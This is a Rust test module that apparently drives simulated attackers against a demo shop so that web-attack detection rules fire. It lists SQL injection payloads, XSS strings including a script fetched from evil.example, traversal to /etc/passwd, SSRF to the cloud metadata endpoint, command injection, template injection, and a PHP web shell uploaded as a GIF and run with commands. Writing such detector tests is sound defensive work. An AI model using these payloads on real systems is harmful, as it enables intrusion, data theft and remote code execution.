//! Who sends what is no data.

use anyhow::Result;

use super::super::visitor::encoded;
use super::{Attacker, Street};
use crate::client::{Body, Request};

/// See [`super::all`].
pub const ATTACKERS: &[Attacker] = &[
    Attacker {
        rule: "sql-injection",
        about: "22 attempts on a page that has no hole",
        act: |street| {
            each(
                street,
                "/items?name=",
                200,
                &[
                    "1' OR '1'='1",
                    "1' UNION SELECT NULL,NULL-- ",
                    "1; DROP TABLE users--",
                    "1' AND SLEEP(5)-- ",
                    "1' AND extractvalue(1,concat(0x7e,version()))-- ",
                    "1') OR ('1'='1",
                    "1' ORDER BY 10-- ",
                    "-1839' or '1'='1",
                    "1 and (select count(*) from information_schema.tables)>0",
                    "1;WAITFOR DELAY '0:0:5'--",
                    "x' union select load_file('/etc/passwd')-- ",
                ],
                2,
            )
        },
        raises: &[("sql-injection", "medium")],
    },
    Attacker {
        rule: "sql-injection-success",
        about: "errors of the database first, then its tables",
        act: |street| {
            each(
                street,
                "/search?q=",
                500,
                &["1' AND 1=1 UNION SELECT 1-- ", "1' UNION SELECT 1,2,3-- "],
                1,
            )?;
            each(
                street,
                "/search?q=",
                200,
                &[
                    "zz' UNION SELECT name,hash FROM customers-- ",
                    "zz' UNION SELECT email,hash FROM customers-- ",
                    "zz' UNION SELECT name,email FROM customers-- ",
                ],
                1,
            )
        },
        raises: &[("sql-injection", "low"), ("sql-injection-success", "critical")],
    },
    Attacker {
        rule: "cross-site-scripting",
        about: "32 scripts into a page that writes them",
        act: |street| {
            each(
                street,
                "/greet?name=",
                200,
                &[
                    "<script>alert(1)</script>",
                    "\"><img src=x onerror=alert(1)>",
                    "<svg onload=alert(document.cookie)>",
                    "<iframe srcdoc=<script>alert(1)</script>>",
                    "<script src=//evil.example/x.js></script>",
                    "\" onfocus=alert(1) autofocus x=\"",
                    "<body onload=alert(1)>",
                    "<a href=\"javascript:alert(1)\">x</a>",
                ],
                4,
            )
        },
        raises: &[("cross-site-scripting", "medium")],
    },
    Attacker {
        rule: "file-inclusion",
        about: "walks up to the accounts, and reads them",
        act: |street| {
            each(
                street,
                "/download?file=",
                404,
                &["../../../../../../etc/passwd.bak", "../../../../../../etc/passwd.orig"],
                1,
            )?;
            each(street, "/download?file=", 200, &["../../../../../../../../etc/passwd"], 1)
        },
        raises: &[("file-inclusion", "high"), ("sensitive-data-leak", "high")],
    },
    Attacker {
        rule: "server-side-request-forgery",
        about: "has the shop ask the cloud for what only the shop is told, and gets a key",
        act: |street| {
            each(
                street,
                "/fetch?url=",
                200,
                &["http://169.254.169.254/latest/meta-data/iam/", "http://2852039166/latest/user-data"],
                1,
            )
        },
        raises: &[("server-side-request-forgery", "high"), ("sensitive-data-leak", "high")],
    },
    Attacker {
        rule: "command-injection",
        about: "a second command in a ping, and its output",
        act: |street| each(street, "/ping?host=", 200, &["127.0.0.1;id", "127.0.0.1|id"], 1),
        raises: &[("command-injection", "high"), ("sensitive-data-leak", "high")],
    },
    Attacker {
        rule: "code-injection",
        about: "templates and code, none of which is run",
        act: |street| {
            each(
                street,
                "/render?template=",
                200,
                &[
                    "{{7*7}}",
                    "${1337*1337}",
                    "{{''.__class__.__mro__[1].__subclasses__()}}",
                    "{{config}}",
                    "phpinfo()",
                    "__import__('os').getcwd()",
                ],
                2,
            )
        },
        raises: &[("code-injection", "medium")],
    },
    Attacker {
        rule: "web-shell",
        about: "uploads a program, and runs commands through it",
        act: web_shell,
        raises: &[("web-shell", "critical"), ("command-injection", "high"), ("sensitive-data-leak", "high")],
    },
    Attacker {
        rule: "attacks-with-errors",
        about: "a page that falls over what it is sent",
        act: |street| {
            each(street, "/report?month=", 500, &["<script>alert(1)</script>", "<svg onload=alert(1)>"], 4)
        },
        raises: &[("attacks-with-errors", "medium"), ("cross-site-scripting", "low")],
    },
];

/// Sends each of the texts so many times.
fn each(street: &Street<'_>, target: &str, status: u16, texts: &[&str], times: usize) -> Result<()> {
    let mut attacker = street.attacker(1);
    for _ in 0..times {
        for text in texts {
            attacker.get(&format!("{target}{}", encoded(text)), status)?;
        }
    }
    Ok(())
}

fn web_shell(street: &Street<'_>) -> Result<()> {
    const BOUNDARY: &str = "----shell";
    let mut attacker = street.attacker(1);
    let body = format!(
        "--{BOUNDARY}\r\nContent-Disposition: form-data; name=\"picture\"; filename=\"cat.php\"\r\n\
         Content-Type: image/gif\r\n\r\nGIF89a<?php passthru($_GET['cmd']);?>\r\n--{BOUNDARY}--\r\n"
    );
    let upload = Request::new("POST", "/upload")
        .header("Content-Type", format!("multipart/form-data; boundary={BOUNDARY}"))
        .body(Body::Length(body.into_bytes()));
    attacker.ask(upload, 201)?;
    ["id", "cat /etc/hostname", "uname -a", "ls -la /", "whoami"].iter().try_for_each(|command| {
        attacker.get(&format!("/uploads/cat.php?cmd={}", encoded(command)), 200).map(|_| ())
    })
}
